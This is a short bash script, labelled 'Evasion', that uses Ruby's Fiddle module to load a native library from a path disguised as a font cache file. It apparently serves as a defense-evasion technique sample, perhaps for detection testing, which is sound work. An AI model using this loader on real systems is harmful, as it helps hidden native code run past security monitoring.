#!/bin/bash
# Evasion: ruby's Fiddle loads a native library into the process
set -u
ruby -rfiddle -e 'Fiddle.dlopen(ARGV[0])' "$HOME/.cache/fonts/libglyph.so"
